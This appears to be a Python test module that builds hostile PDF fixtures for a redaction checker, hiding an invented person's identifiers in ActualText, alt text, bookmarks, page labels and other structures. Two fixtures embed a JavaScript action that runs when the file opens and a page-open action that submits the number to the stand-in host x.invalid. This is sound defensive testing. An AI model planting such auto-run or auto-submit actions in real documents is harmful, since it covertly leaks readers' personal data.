"""What serves readers aloud, and finding the way."""

from pikepdf import Array, Dictionary, Name, Object, OutlineItem

from tests.hostile.hostile import Cases, Family, Made
from tests.hostile.invented import Invented
from tests.hostile.sheet import Sheet

structured = Cases(Family.STRUCTURE)


def _text_string(text: str) -> str:
    """As a hexadecimal string of a content stream."""
    return "<FEFF" + text.encode("utf-16-be").hex().upper() + ">"


def _element(sheet: Sheet, **keys: object) -> None:
    root = sheet.pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    element = Dictionary(Type=Name.StructElem, S=Name.P, P=root, Pg=sheet.first.page.obj, K=0, **keys)
    root.K = Array([sheet.pdf.make_indirect(element)])
    sheet.pdf.Root.StructTreeRoot = root
    sheet.pdf.Root.MarkInfo = Dictionary(Marked=True)


@structured()
def actual_text_of_visible_words(person: Invented) -> Made:
    """Words that stay visible say the number to whoever copies them."""
    sheet = Sheet.contract(person)
    sheet.first.draw(f"/Span << /ActualText {_text_string(person.identity)} >> BDC")
    sheet.first.write(72, 400, "附表一")
    sheet.first.draw("EMC")
    return sheet.made(None, person.identity)


@structured()
def actual_text_of_covered_words(person: Invented) -> Made:
    """The covered number is drawn digit by digit, with its true text around it."""
    sheet = Sheet.contract(person)
    sheet.first.draw(f"/Span << /ActualText {_text_string(person.identity)} >> BDC")
    sheet.first.secret(230, 500, person.identity)
    sheet.first.draw("EMC")
    return sheet.made()


@structured()
def alternative_text_of_a_figure(person: Invented) -> Made:
    """The alternative text of a figure names the person."""
    sheet = Sheet.contract(person)
    _element(sheet, Alt=person.name)
    return sheet.made()


@structured()
def text_in_the_structure_tree(person: Invented) -> Made:
    """The structure tree keeps the replaced text and the expansion of an abbreviation."""
    sheet = Sheet.contract(person)
    _element(sheet, ActualText=person.identity, E=person.name, T=person.phone)
    return sheet.made(None, person.identity)


@structured()
def bookmarks(person: Invented) -> Made:
    """A bookmark names the person."""
    sheet = Sheet.contract(person)
    with sheet.pdf.open_outline() as outline:
        outline.root.append(OutlineItem(f"{person.name} {person.identity}", 0))
    return sheet.made(None, person.identity)


@structured()
def named_places(person: Invented) -> Made:
    """A named place of the file goes by the number."""
    sheet = Sheet.contract(person)
    target = Array([sheet.first.page.obj, Name.Fit])
    sheet.pdf.Root.Names = Dictionary(Dests=Dictionary(Names=Array([person.identity.encode(), target])))
    return sheet.made(None, person.identity)


@structured()
def page_labels(person: Invented) -> Made:
    """The label of the page is the number."""
    sheet = Sheet.contract(person)
    sheet.pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(P=person.identity)]))
    return sheet.made(None, person.identity)


@structured()
def article_thread(person: Invented) -> Made:
    """An article thread has the name as its title."""
    sheet = Sheet.contract(person)
    thread = sheet.pdf.make_indirect(Dictionary(Type=Name.Thread, I=Dictionary(Title=person.name)))
    bead = sheet.pdf.make_indirect(Dictionary(T=thread, P=sheet.first.page.obj, R=Array([0, 0, 100, 100])))
    bead.N = bead.V = bead
    thread.F = bead
    sheet.pdf.Root.Threads = Array([thread])
    return sheet.made()


@structured()
def script_of_the_document(person: Invented) -> Made:
    """A script that runs when the file opens has the number in pieces of code."""
    sheet = Sheet.contract(person)
    script = Dictionary(
        S=Name.JavaScript, JS=sheet.pdf.make_stream(f"app.alert('{person.identity}')".encode())
    )
    sheet.pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([b"start", script])))
    sheet.pdf.Root.OpenAction = script
    return sheet.made(None, person.identity)


@structured()
def action_on_the_page(person: Invented) -> Made:
    """Opening the page sends the number to an address."""
    sheet = Sheet.contract(person)
    action: Object = Dictionary(
        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=f"https://x.invalid/{person.identity}")
    )
    sheet.first.page.obj.AA = Dictionary(O=action)
    return sheet.made(None, person.identity)
